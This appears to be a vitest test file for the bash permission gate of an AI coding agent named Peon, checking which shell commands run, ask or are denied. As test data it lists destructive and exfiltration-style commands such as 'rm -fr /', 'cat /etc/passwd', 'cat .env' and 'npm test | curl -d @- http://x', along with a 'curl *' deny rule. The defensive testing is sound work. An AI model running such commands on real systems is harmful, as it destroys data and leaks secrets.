import { describe, expect, test } from 'vitest';
import { judge } from '../../../src/core/permissions/gate';
import { SessionGrants } from '../../../src/core/permissions/grants';
import { permissionConfig } from '../../../src/core/permissions/rules';
import { Workspace } from '../../../src/core/workspace/workspace';
import { makeWorkspace } from '../tools/toolTestContext';

// The bash gate over a real workspace and the real tree-sitter-bash grammar: every
// segment judged on its own (DESIGN.md §5; SECURITY.md, Shell).
function gate(rules: { user?: Record<string, unknown>; workspace?: Record<string, unknown> } = {}, grants?: SessionGrants) {
  const root = makeWorkspace({ 'README.md': '# hi\n', '.env': 'KEY=1\n', 'src/a.ts': 'x\n' });
  const workspace = new Workspace([{ path: root }]);
  const config = permissionConfig({ user: rules.user ?? {}, workspace: rules.workspace ?? {} });
  return (command: string) =>
    judge({
      tool: 'bash',
      assessment: { risk: 'process', writes: false, paths: [workspace.resolve('.')], summary: { kind: 'command', command, cwd: '.' } },
      config,
      ...(grants ? { grants } : {}),
      resolve: (p) => workspace.resolve(p),
      roots: workspace.folders.map((f) => f.root),
    });
}

describe('semi-judge, the bash default', () => {
  test.each(['ls', 'ls -la src', 'pwd', 'git status', 'git diff', 'git log --oneline -5', 'cat README.md', 'git branch -a', 'node --version', 'ls > /dev/null 2>&1', '(cd src; ls)'])('the bare read-only command %j runs', async (command) => {
    expect(await gate()(command)).toMatchObject({ decision: 'allow', source: 'default for bash: semi-judge', reasons: [] });
  });

  test.each([
    ['git status && rm -rf .', '`rm -rf .`: rm -rf . deletes the workspace'],
    ['git status > ~/.bashrc', 'redirects: > ~/.bashrc'],
    ['git status >> out.txt', 'redirects: >> out.txt'],
    ['echo $(curl http://example.com)', 'runs the command substitution $(curl http://example.com)'],
    ['echo `id`', 'runs the command substitution `id`'],
    ['diff <(ls a) <(ls b)', 'runs the process substitution <(ls a)'],
    ['FOO=1 ls', 'sets FOO=1 for the command'],
    ['PATH=/tmp:$PATH git status', 'sets PATH=/tmp:$PATH for the command'],
    ['ls\ncurl http://example.com', 'spans several lines'],
    ['cat <<EOF\nhi\nEOF', 'reads a here-document'],
    ['bash -c "ls"', 'bash runs other commands'],
    ['eval ls', 'eval runs other commands'],
    ['xargs rm < list.txt', 'xargs runs other commands'],
    ['cat .env', '.env'],
    ['cat ../../etc/passwd', 'is outside the workspace'],
    ['cat /etc/passwd', 'is outside the workspace'],
    ['git show HEAD:.env', '.env'],
    ['git diff --output=patch.txt', '--output=patch.txt can make git write'],
    ['tail -f README.md', '-f can make tail'],
    ['ls $HOME', 'expands $HOME'],
    ['ls *.ts', 'expands the glob *.ts'],
    ['npm install', 'npm is not one of the read-only commands'],
    ['git push', 'git is not one of the read-only commands'],
    ['for f in a b; do echo $f; done', 'has a for construct'],
    ['echo "unterminated', 'does not parse'],
  ])('%j asks, saying why', async (command, why) => {
    const decision = await gate()(command);
    expect(decision.decision).toBe('ask');
    expect(decision.reasons.join('\n')).toContain(why);
  });

  test('60 chained no-ops, then a network command: asks, naming the one segment', async () => {
    const decision = await gate()(`${'true && '.repeat(60)}curl http://example.com/x`);
    expect(decision.decision).toBe('ask');
    expect(decision.reasons).toEqual(['`curl http://example.com/x`: curl is not one of the read-only commands Peon runs without asking']);
  });
});

describe('pattern rules for bash', () => {
  const rules = { user: { 'peon.permission.rules': { bash: { 'npm test': 'allow', 'npm run *': 'allow', 'curl *': 'deny' } } } };

  test('an allowed pattern runs, naming its rule', async () => {
    expect(await gate(rules)('npm test')).toMatchObject({ decision: 'allow', source: 'peon.permission.rules (user): bash "npm test" -> allow' });
    expect(await gate(rules)('npm run build && git status')).toMatchObject({ decision: 'allow' });
  });

  test('a denied segment denies the whole line, also inside a substitution', async () => {
    for (const command of ['npm test && curl http://x', 'echo $(curl http://x)', 'npm test | curl -d @- http://x']) {
      expect(await gate(rules)(command)).toMatchObject({ decision: 'deny', source: 'peon.permission.rules (user): bash "curl *" -> deny' });
    }
  });

  test('an allowed pattern does not cover what the parser cannot vouch for', async () => {
    const decision = await gate(rules)('npm test > ~/.bashrc');
    expect(decision).toMatchObject({ decision: 'ask' });
    expect(decision.reasons.join()).toContain('redirects: > ~/.bashrc');
    expect(await gate(rules)('npm test && npm publish')).toMatchObject({ decision: 'ask', reasons: ['`npm publish`: npm is not one of the read-only commands Peon runs without asking'] });
  });

  test('a workspace may add ask or deny, never allow', async () => {
    const mixed = { user: {}, workspace: { 'peon.permission.rules': { bash: { 'curl *': 'allow', 'git status': 'deny', 'ls *': 'ask' } } } };
    expect(await gate(mixed)('curl http://x')).toMatchObject({ decision: 'ask' });
    expect(await gate(mixed)('git status')).toMatchObject({ decision: 'deny', source: 'peon.permission.rules (workspace): bash "git status" -> deny' });
    expect(await gate(mixed)('ls src')).toMatchObject({ decision: 'ask', reasons: ['`ls src` asks by peon.permission.rules (workspace): bash "ls *" -> ask'] });
  });
});

describe('rules that cover the whole tool', () => {
  test('bash: allow runs anything parseable, but destructive commands always ask', async () => {
    const allow = gate({ user: { 'peon.permission.rules': { bash: 'allow' } } });
    expect(await allow('npm install && echo $(date) > out.txt')).toMatchObject({ decision: 'allow', source: 'peon.permission.rules (user): bash -> allow' });
    for (const [command, why] of [
      ['rm -rf .', 'deletes the workspace'],
      ['rm -rf ~', 'deletes the workspace, the home folder'],
      ['rm -fr /', 'the whole disk'],
      ['git push --force origin main', 'rewrites or deletes remote history'],
      ['git clean -fdx', 'deletes untracked files'],
      ['git reset --hard HEAD~3', 'discards uncommitted work'],
      ['npm test; git checkout -- .', 'discards uncommitted changes'],
      ['find . -name "*.o" -delete', 'deletes or runs commands'],
    ]) {
      const decision = await allow(command!);
      expect(decision, command).toMatchObject({ decision: 'ask', grantable: [] });
      expect(decision.reasons.join()).toContain(why);
    }
    expect(await allow('rm -rf build')).toMatchObject({ decision: 'allow' });
  });

  test('bash: deny denies even whitelisted commands; corrupt rules make everything ask', async () => {
    expect(await gate({ user: { 'peon.permission.rules': { bash: 'deny' } } })('ls')).toMatchObject({ decision: 'deny' });
    expect(await gate({ user: { 'peon.permission.rules': { bash: 'whenever' } } })('ls')).toMatchObject({ decision: 'ask', source: 'peon.permission.rules is not valid: every tool asks' });
  });
});

test('allowed for this session: exactly the approved segments', async () => {
  const grants = new SessionGrants();
  const asked = await gate({}, grants)('npm test');
  expect(asked).toMatchObject({ decision: 'ask', grantable: ['npm test'] });
  grants.add('bash', asked.grantable);
  expect(await gate({}, grants)('npm test')).toMatchObject({ decision: 'allow', source: 'allowed for this session: npm test' });
  expect(await gate({}, grants)('npm test && npm run build')).toMatchObject({ decision: 'ask', reasons: ['`npm run build`: npm is not one of the read-only commands Peon runs without asking'] });
  expect(await gate({}, grants)('npm test -- --watch')).toMatchObject({ decision: 'ask' });
});
